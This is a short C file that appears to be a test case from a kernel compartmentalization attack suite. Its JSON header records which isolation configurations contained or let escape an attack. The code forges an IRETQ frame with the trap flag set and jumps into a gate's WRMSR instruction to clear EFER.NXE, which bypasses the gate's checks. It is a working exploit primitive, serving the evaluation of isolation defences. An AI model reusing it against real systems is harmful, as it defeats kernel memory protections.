/*
{
  "title": "EFER.NXE cleared by the instruction with which a gate changes rights, to which IRETQ leads with TF set: the exception comes before any check, and with NXE clear",
  "reference": "Guo et al., BULKHEAD: Secure, Scalable, and Efficient Kernel Compartmentalization with PKS, NDSS 2025 (each WRMSR is a gate); Intel 64 and IA-32 Architectures Software Developer's Manual, volume 3A, sections 4.5 and 18.3.1.4",
  "elsewhere": {"qemu-tcg": "QEMU keeps translations when EFER.NXE changes, and reports a reserved bit with P = 0 in the error code (SDM volume 3A, 4.7)"},
  "symbols": ["write_msr", "service_wrpkru", "interrupt_return"],
  "cells": {
    "none": {"outcome": "crashed"},
    "uio-mpk": {"outcome": "escaped"},
    "mpk-hardened": {"outcome": "contained"},
    "ring3": {"outcome": "contained"},
    "pks-hardened": {"outcome": "contained"},
    "mpk-bundled": {"outcome": "contained", "event": "exception"}
  },
  "control": {
    "pks-hardened": "completed",
    "none": "completed",
    "uio-mpk": "completed",
    "mpk-hardened": "completed",
    "ring3": "completed",
    "mpk-bundled": "completed"
  }
}
*/
#include "attack.h"
#include "gate_register.h"

extern const char interrupt_return[];

// RIP, CS, RFLAGS with TF, RSP, SS: after one instruction there the processor raises #DB.
static void trap_at(const volatile void *place, uint32_t index, uint64_t value) {
  __asm__ volatile(
      "movl %%ss, %%r8d\n"
      "movq %%rsp, %%r9\n"
      "pushq %%r8\n"
      "pushq %%r9\n"
      "pushq $0x102\n"
      "movl %%cs, %%r8d\n"
      "pushq %%r8\n"
      "pushq %[place]\n"
      "jmp *%[way]"
      :
      : [place] "r"(place), [way] "r"(interrupt_return), "c"(index), "a"((uint32_t)value), "d"((uint32_t)(value >> 32))
      : "r8", "r9", "memory");
}

int main(void) {
  GOAL_END();
  BYPASS(trap_at(service_wrpkru ? (const volatile void *)service_wrpkru : gadget_wrmsr(), 0xc0000080, 0x500));
  return 0;
}
